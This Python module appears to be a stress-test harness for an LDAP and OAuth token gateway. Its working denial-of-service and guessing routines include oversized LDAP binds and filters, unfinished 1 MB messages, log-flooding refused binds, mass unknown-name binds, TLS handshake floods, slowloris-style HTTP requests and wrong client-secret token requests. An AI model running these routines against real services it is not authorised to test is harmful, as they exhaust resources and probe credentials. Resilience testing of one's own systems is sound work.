"""What somebody who has no name here can send. Each attack is a coroutine that goes on until it is cancelled."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Awaitable, Callable
from contextlib import suppress

from scripts.siege_attacks.ldap_client import answer, bind, connection, names, search
from scripts.siege_attacks.victim import Victim

Attack = Callable[[Victim], Awaitable[None]]


async def again(times: int, one: Callable[[int], Awaitable[None]]) -> None:
    """So many at a time, each begun anew when the gateway has ended it."""

    async def for_ever(number: int) -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                await one(number)
            await asyncio.sleep(0.01)

    await asyncio.gather(*(for_ever(number) for number in range(times)))


async def long_bind_names(victim: Victim) -> None:
    """Binds as a name of 340,000 octets, eight at a time."""
    message = bind(1, "cn=" + "é" * 170_000, "x")

    async def one(_: int) -> None:
        async with connection(victim.ldap) as (reader, writer):
            for _ in range(100):
                writer.write(message)
                await writer.drain()
                if not await answer(reader):
                    return

    await again(8, one)


async def long_filters(victim: Victim) -> None:
    """The root DSE by a substring filter of 300,000 pieces."""
    message = search(1, "", "(cn=*" + "a*" * 300_000 + ")", scope=0)

    async def one(_: int) -> None:
        async with connection(victim.ldap) as (reader, writer):
            writer.write(message)
            await writer.drain()
            await answer(reader)

    await again(4, one)


def guesses(connections: int) -> Attack:
    """Binds of unknown names on so many connections."""

    async def attack(victim: Victim) -> None:
        async def one(number: int) -> None:
            async with connection(victim.ldap) as (reader, writer):
                for message_id, name in enumerate(names(f"nobody{number}-"), 1):
                    writer.write(bind(message_id, name, "guess"))
                    if not await answer(reader):
                        return

        await again(connections, one)

    attack.__doc__ = f"Binds of unknown names on {connections} connections."
    return attack


async def unfinished_messages(victim: Victim) -> None:
    """1,000 connections, each with the first 1,000,000 octets of a longer message."""
    head = bind(1, "x" * 1_040_000, "y")[:1_000_000]

    async def one(_: int) -> None:
        async with connection(victim.ldap) as (reader, writer):
            writer.write(head)
            await writer.drain()
            await answer(reader)

    await again(1_000, one)


async def refused_in_the_log(victim: Victim) -> None:
    """Refused binds of names of 2,000 octets as fast as they are answered, sixteen in flight."""

    async def one(number: int) -> None:
        async with connection(victim.ldap) as (reader, writer):
            for round_ in range(1_000_000):
                long = [f"cn={'n' * 1_900}{number}-{round_}-{n},dc=x" for n in range(16)]
                writer.write(b"".join(bind(16 * round_ + n, name, "y") for n, name in enumerate(long, 1)))
                await writer.drain()
                if not await answer(reader):
                    return

    await again(8, one)


async def connect_and_leave(victim: Victim) -> None:
    """Connections that are opened and closed, 64 at a time."""

    async def one(_: int) -> None:
        async with connection(victim.ldap):
            pass

    await again(64, one)


async def tls_handshakes(victim: Victim) -> None:
    """TLS handshakes, sixteen at a time, each given up when it is done."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    async def one(_: int) -> None:
        _reader, writer = await asyncio.open_connection(*victim.ldaps, ssl=context, local_addr=("127.0.0.1", 0))
        writer.close()

    await again(16, one)


async def slow_http_requests(victim: Victim) -> None:
    """1,000 HTTP requests of which a line comes every five seconds."""

    async def one(number: int) -> None:
        async with connection(victim.http) as (_, writer):
            writer.write(b"POST /v2/x/y/oauth2/token HTTP/1.1\r\nHost: x\r\n")
            for line in range(100):
                await asyncio.sleep(5)
                writer.write(f"X-{number}-{line}: {'x' * 200}\r\n".encode())
                await writer.drain()

    await again(1_000, one)


async def wrong_client_secrets(victim: Victim) -> None:
    """Token requests with wrong secrets of made-up clients, 32 at a time."""

    async def one(number: int) -> None:
        async with connection(victim.http) as (reader, writer):
            for round_ in range(1_000):
                body = f"grant_type=client_credentials&client_id=c{number}-{round_}&client_secret=x".encode()
                writer.write(
                    f"POST {victim.token_path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                    f"Content-Length: {len(body)}\r\n\r\n".encode()
                    + body
                )
                if not await answer(reader):
                    return

    await again(32, one)


ATTACKS: dict[str, Attack] = {
    "long bind names": long_bind_names,
    "substring filter of 300,000 pieces": long_filters,
    "unknown names, 90 connections": guesses(90),
    "unknown names, 490 connections": guesses(490),
    "1,000 unfinished messages of 1 MB": unfinished_messages,
    "refused binds of long names": refused_in_the_log,
    "connect and leave": connect_and_leave,
    "TLS handshakes": tls_handshakes,
    "1,000 slow HTTP requests": slow_http_requests,
    "wrong client secrets": wrong_client_secrets,
}
